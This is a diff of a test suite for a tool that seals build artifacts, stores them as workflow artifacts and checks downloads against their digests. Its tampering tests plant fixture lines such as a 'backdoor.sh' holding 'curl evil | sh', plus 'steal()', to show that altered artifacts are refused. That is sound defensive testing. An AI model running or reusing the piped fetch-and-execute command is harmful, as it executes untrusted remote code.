@@ -8,6 +8,7 @@ import { SealError } from '../../src/core/errors.js'
 import { parseListing } from '../../src/core/listing.js'
 import { type SealedArtifact, sealSubject } from '../../src/core/seal.js'
 import { buildStatement, statementSubject } from '../../src/core/statement.js'
+import { UnsafeArchiveError } from '../../src/stores/evidence/archive-entry.js'
 import { LocalDirectoryStore } from '../../src/stores/evidence/local-directory.js'
 import type { SealBundleLocation } from '../../src/stores/evidence/seal-bundle.js'
 import { type GitHubApiHost, startGitHubApiHost } from '../hosts/github-api-host.js'
@@ -125,9 +126,8 @@ describe('uploading and downloading in one workflow run', () => {
     expect(hosted).toMatchObject({ name: 'shop-sealed', runId, size: uploaded.size, digest: uploaded.digest, expired: false })
     expect(Date.parse(hosted?.expiresAt ?? '') - Date.parse(hosted?.createdAt ?? '')).toBeGreaterThan(4.9 * 86_400_000)
 
-    const downloaded = await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-      const into = path.join(workspace, 'incoming')
-      return new store.WorkflowArtifactStore().download({ name: 'shop-sealed', into })
+    const downloaded = await job({ runId, jobId: 'deploy' }, async ({ temp }) => {
+      return new store.WorkflowArtifactStore().download({ name: 'shop-sealed', parent: temp })
     })
     expect(downloaded).toMatchObject({ id: uploaded.id, name: 'shop-sealed', runId: null, digest: uploaded.digest, digestMatched: true })
     expect(filesUnder(downloaded.dir)).toEqual([
@@ -142,14 +142,24 @@ describe('uploading and downloading in one workflow run', () => {
     expect(fs.readFileSync(downloaded.checksumsPath)).toEqual(sealed.artifact.listing)
     expect(fs.readFileSync(downloaded.statementPath, 'utf8')).toBe(fs.readFileSync(sealed.bundle.statementPath, 'utf8'))
     expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
-    expect(fs.readdirSync(path.dirname(downloaded.dir))).toEqual(['incoming'])
+    // A private directory under the runner's temp directory, that only this user can enter.
+    expect(fs.statSync(downloaded.dir).mode & 0o777).toBe(0o700)
+  })
+
+  it('names outside ASCII and long names round trip: the uploader marks them UTF-8', async () => {
+    const runId = newRun()
+    const long = `${'d'.repeat(120)}/${'f'.repeat(150)}.js`
+    const { sealed } = await uploadIn(runId, 'shop-unicode', true, { ...BUILD_FILES, 'ünïcødé/ファイル.txt': 'unicode\n', [long]: 'long\n' })
+    const downloaded = await job({ runId, jobId: 'deploy' }, ({ temp }) => new store.WorkflowArtifactStore().download({ name: 'shop-unicode', parent: temp }))
+    expect(filesUnder(downloaded.filesDir as string)).toEqual(expect.arrayContaining(['ünïcødé/ファイル.txt', long]))
+    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
   })
 
   it('carries the bundle alone when asked', async () => {
     const runId = newRun()
     await uploadIn(runId, 'shop-bundle', false)
-    const downloaded = await job({ runId, jobId: 'deploy' }, ({ workspace }) =>
-      new store.WorkflowArtifactStore().download({ name: 'shop-bundle', into: path.join(workspace, 'in') })
+    const downloaded = await job({ runId, jobId: 'deploy' }, ({ temp }) =>
+      new store.WorkflowArtifactStore().download({ name: 'shop-bundle', parent: temp })
     )
     expect(downloaded.filesDir).toBeNull()
     expect(filesUnder(downloaded.dir)).toEqual(['seal/shop.intoto.json', 'seal/shop.sha256'])
@@ -193,11 +203,10 @@ describe('uploading and downloading in one workflow run', () => {
   it('says when no artifact has the name, and leaves no directory', async () => {
     const runId = newRun()
     await uploadIn(runId, 'shop-here')
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-      const into = path.join(workspace, 'in')
-      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-elsewhere', into }))
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-elsewhere', parent: temp }))
       expect(error.message).toMatch(/^artifact-name: there is no artifact named "shop-elsewhere" in this workflow run\. Upload it in an earlier job/)
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
@@ -205,20 +214,23 @@ describe('uploading and downloading in one workflow run', () => {
     const runId = newRun()
     const { uploaded } = await uploadIn(runId, 'shop-short-lived')
     await results.expireArtifact(uploaded.id)
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-short-lived', into: path.join(workspace, 'in') }))
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-short-lived', parent: temp }))
       expect(error.message).toMatch(/no artifact named "shop-short-lived" in this workflow run.*expired/)
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
-  it('refuses to download into a directory that holds something', async () => {
-    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
-      writeTree(workspace, { 'in/keep.txt': 'mine' })
-      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'anything', into: path.join(workspace, 'in') }))
-      expect(error.message).toMatch(/^path: ".*in" is not empty/)
-      expect(fs.readFileSync(path.join(workspace, 'in', 'keep.txt'), 'utf8')).toBe('mine')
+  it('refuses a directory for downloads inside the workspace, before any request', async () => {
+    const runId = newRun()
+    await uploadIn(runId, 'shop-not-here')
+    results.clearRequests()
+    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-not-here', parent: path.join(workspace, 'incoming') }))
+      expect(error.message).toMatch(/^path: the directory for downloads, ".*incoming", is inside the workspace ".*"\. Nothing from a carrier is unpacked in the workspace/)
+      expect(fs.readdirSync(path.join(workspace, 'incoming'))).toEqual([])
     })
+    expect(results.requests).toEqual([])
   })
 })
 
@@ -228,31 +240,31 @@ describe('downloading from another workflow run', () => {
   it('finds the artifact through the REST API with a token', async () => {
     const runId = newRun()
     const { sealed, uploaded } = await uploadIn(runId, 'shop-release')
-    const downloaded = await job({ runId: newRun(), jobId: 'deploy' }, ({ workspace }) =>
-      new store.WorkflowArtifactStore().download({ name: 'shop-release', runId, token: github.token, into: path.join(workspace, 'in') })
+    const downloaded = await job({ runId: newRun(), jobId: 'deploy' }, ({ temp }) =>
+      new store.WorkflowArtifactStore().download({ name: 'shop-release', runId, token: github.token, parent: temp })
     )
     expect(downloaded).toMatchObject({ id: uploaded.id, runId, digest: uploaded.digest, digestMatched: true })
     expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
   })
 
   it('names run-id when the run does not exist', async () => {
-    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
-      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop', runId: 999_999, token: github.token, into: path.join(workspace, 'in') }))
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop', runId: 999_999, token: github.token, parent: temp }))
       expect(error.message).toMatch(/^run-id: workflow run 999999 was not found in acme\/shop \(404\)/)
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
   it('names github-token and actions: read when the token may not read artifacts', async () => {
     const runId = newRun()
     await uploadIn(runId, 'shop-private')
-    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace, temp }) => {
       const download = (token?: string): Promise<unknown> =>
-        new store.WorkflowArtifactStore().download({ name: 'shop-private', runId, ...(token === undefined ? {} : { token }), into: path.join(workspace, 'in') })
+        new store.WorkflowArtifactStore().download({ name: 'shop-private', runId, ...(token === undefined ? {} : { token }), parent: temp })
       expect((await failure(download('ghs_no-actions'))).message).toMatch(/^github-token: the token may not read the workflow artifacts of acme\/shop \(403 .*"actions: read"/)
       expect((await failure(download('ghs_unknown'))).message).toMatch(/^github-token: GitHub refused the token \(401/)
       expect((await failure(download())).message).toMatch(/^github-token: downloading the artifact "shop-private" from another workflow run \(run-id \d+\) needs a token/)
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
@@ -260,10 +272,10 @@ describe('downloading from another workflow run', () => {
     const runId = newRun()
     const { uploaded } = await uploadIn(runId, 'shop-old')
     await results.expireArtifact(uploaded.id)
-    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace }) => {
-      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-old', runId, token: github.token, into: path.join(workspace, 'in') }))
+    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-old', runId, token: github.token, parent: temp }))
       expect(error.message).toMatch(new RegExp(`^artifact-name: the artifact "shop-old" in workflow run ${runId} of acme/shop has expired`))
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 })
@@ -275,10 +287,10 @@ describe('bytes that are not the uploaded ones', () => {
     await results.tamperArtifactBlob(uploaded.id, (files) => {
       files.set('files/index.html', Buffer.from('<html>pwned</html>\n'))
     })
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-tampered-zip', into: path.join(workspace, 'in') }))
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-tampered-zip', parent: temp }))
       expect(error.message).toMatch(/^artifact-name: the artifact "shop-tampered-zip" \(id \d+ in this workflow run\) arrived with other bytes than were uploaded/)
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
@@ -288,39 +300,51 @@ describe('bytes that are not the uploaded ones', () => {
     await results.tamperArtifactBlob(uploaded.id, (files) => {
       files.set('files/assets/app.js', Buffer.from('steal()\n'))
       files.delete('files/api/openapi.yaml')
-      files.set('files/backdoor.sh', Buffer.from('curl evil | sh\n'))
     })
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-      const error = await failure(
-        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-tampered', into: path.join(workspace, 'in'), expected: sealed.artifact.digest }, { build: BUILD })
-      )
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-tampered', parent: temp, expected: sealed.artifact.digest }, { build: BUILD }))
       expect(error.message).toBe(
-        `artifact-name: the files of the artifact "shop-tampered" are not the sealed files of ${sealed.artifact.digest}: 1 changed, 1 missing, 1 added:\n` +
+        `artifact-name: the files of the artifact "shop-tampered" are not the sealed files of ${sealed.artifact.digest}: 1 changed, 1 missing, 0 added:\n` +
           '  missing api/openapi.yaml\n' +
           '  changed assets/app.js\n' +
-          '  added   backdoor.sh\n' +
           'The download was deleted. Do not deploy these files: find out who changed the stored artifact, then seal and upload the build again.'
       )
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
+    })
+  })
+
+  it('a file the sealed listing does not name is refused before anything is extracted', async () => {
+    const runId = newRun()
+    const { sealed, uploaded } = await uploadIn(runId, 'shop-added')
+    await results.tamperArtifactBlob(uploaded.id, (files) => {
+      files.set('files/backdoor.sh', Buffer.from('curl evil | sh\n'))
+    })
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+      const error = await failure(verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-added', parent: temp, expected: sealed.artifact.digest }, { build: BUILD }))
+      expect(error).toBeInstanceOf(UnsafeArchiveError)
+      expect((error as UnsafeArchiveError).refusals).toEqual([{ name: 'files/backdoor.sh', reason: 'not in the sealed listing' }])
+      expect(error.message).toMatch(/^artifact-name: refused the artifact "shop-added" \(id \d+ in this workflow run\) before extracting anything: 1 entry is not what a seal puts there:\n {2}"files\/backdoor\.sh": not in the sealed listing\nNothing was extracted, and the download was deleted\./)
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
   it('downloadAndVerify proves intact files against the expected digest, and refuses another digest', async () => {
     const runId = newRun()
     const { sealed } = await uploadIn(runId, 'shop-intact')
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
       const verified = await verify.downloadAndVerify(
         new store.WorkflowArtifactStore(),
-        { name: 'shop-intact', into: path.join(workspace, 'in'), expected: sealed.artifact.digest },
+        { name: 'shop-intact', parent: temp, expected: sealed.artifact.digest },
         { build: BUILD }
       )
       expect(verified).toMatchObject({ digest: sealed.artifact.digest, fileCount: 4 })
       const other = `sha256:${'0'.repeat(64)}` as Digest
       const error = await failure(
-        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-intact', into: path.join(workspace, 'again'), expected: other }, { build: BUILD })
+        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-intact', parent: temp, expected: other }, { build: BUILD })
       )
       expect(error.message).toMatch(new RegExp(`^digest: the seal bundle in the artifact "shop-intact" is the listing of ${sealed.artifact.digest}, not of ${other}\\.`))
-      expect(fs.readdirSync(workspace)).toEqual(['in'])
+      // The first download is kept (it verified); the refused one is gone.
+      expect([fs.readdirSync(workspace), fs.readdirSync(path.join(temp))]).toEqual([[], [path.basename(verified.artifact.dir)]])
     })
   })
 
@@ -334,11 +358,12 @@ describe('bytes that are not the uploaded ones', () => {
       expect(artifact.kind).toBe('file')
       return artifact
     })
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-      const request = { name: 'shop-tgz', into: path.join(workspace, 'a') }
+    await job({ runId, jobId: 'deploy' }, async ({ temp }) => {
+      const request = { name: 'shop-tgz', parent: temp }
       const withExpected = await verify.downloadAndVerify(new store.WorkflowArtifactStore(), { ...request, expected: sealed.digest }, { build: BUILD })
-      expect(withExpected).toMatchObject({ digest: sealed.digest, fileCount: 1, kind: 'file', path: path.join(workspace, 'a', 'files', 'shop.tgz') })
-      const inferred = await verify.downloadAndVerify(new store.WorkflowArtifactStore(), { ...request, into: path.join(workspace, 'b') }, { build: BUILD })
+      expect(withExpected).toMatchObject({ digest: sealed.digest, fileCount: 1, kind: 'file', path: path.join(withExpected.artifact.dir, 'files', 'shop.tgz') })
+      expect(path.dirname(withExpected.artifact.dir)).toBe(temp)
+      const inferred = await verify.downloadAndVerify(new store.WorkflowArtifactStore(), { ...request, parent: temp }, { build: BUILD })
       expect(inferred.digest).toBe(sealed.digest)
     })
   })
@@ -360,13 +385,13 @@ describe('bytes that are not the uploaded ones', () => {
       await new store.WorkflowArtifactStore().upload({ name: 'shop-forged', bundle, files: { root: path.join(forged, 'files'), paths: ['site'] } })
       return sealed.artifact
     })
-    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
+    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
       const error = await failure(
-        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-forged', into: path.join(workspace, 'in'), expected: tree.digest }, { build: BUILD })
+        verify.downloadAndVerify(new store.WorkflowArtifactStore(), { name: 'shop-forged', parent: temp, expected: tree.digest }, { build: BUILD })
       )
       expect(error.message).toContain(`is one file whose bytes are a checksums listing of 4 files, so its sha256 ${tree.digest} is also the digest of the tree it lists`)
       expect(error.message).toContain('A seal never seals a listing as one file, so the seal bundle in the artifact "shop-forged" does not come from a seal of these bytes.')
-      expect(fs.readdirSync(workspace)).toEqual([])
+      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
     })
   })
 
@@ -375,28 +400,28 @@ describe('bytes that are not the uploaded ones', () => {
     await uploadIn(runId, 'shop-cut')
     results.truncateDownloads({ keep: 'whole-entries' })
     try {
-      await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-        const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-cut', into: path.join(workspace, 'in') }))
+      await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+        const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-cut', parent: temp }))
         expect(error.message).toMatch(/arrived with other bytes than were uploaded: its zip does not hash to sha256:[0-9a-f]{64}, the digest recorded at upload\. The download was cut short/)
-        expect(fs.readdirSync(workspace)).toEqual([])
+        expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
       })
     } finally {
       results.truncateDownloads(false)
     }
   })
 
-  // The installed client retries a failed download five times, five seconds apart: this
-  // test waits about 25 s for it to give up.
-  it('a download that fails part-way: the partial files are removed', async () => {
+  // The client's own extraction (which retried five times, 25 s, before giving up) is not
+  // used: the zip is saved whole or short, and a short one fails the recorded digest.
+  it('a download cut inside a file: the recorded digest catches it, nothing is kept', async () => {
     const runId = newRun()
     // A large file that does not compress puts the middle of the zip inside a file.
     await uploadIn(runId, 'shop-broken', true, { ...BUILD_FILES, 'assets/big.bin': randomBytes(256 * 1024) })
     results.truncateDownloads({ keep: 'half' })
     try {
-      await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
-        const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-broken', into: path.join(workspace, 'in') }))
-        expect(error.message).toMatch(/^artifact-name: the download of the artifact "shop-broken" in this workflow run failed part-way \(Artifact download failed after 5 retries\.\)\. Nothing was kept\./)
-        expect(fs.readdirSync(workspace)).toEqual([])
+      await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
+        const error = await failure(new store.WorkflowArtifactStore().download({ name: 'shop-broken', parent: temp }))
+        expect(error.message).toMatch(/^artifact-name: the artifact "shop-broken" \(id \d+ in this workflow run\) arrived with other bytes than were uploaded: its zip does not hash to/)
+        expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
       })
     } finally {
       results.truncateDownloads(false)
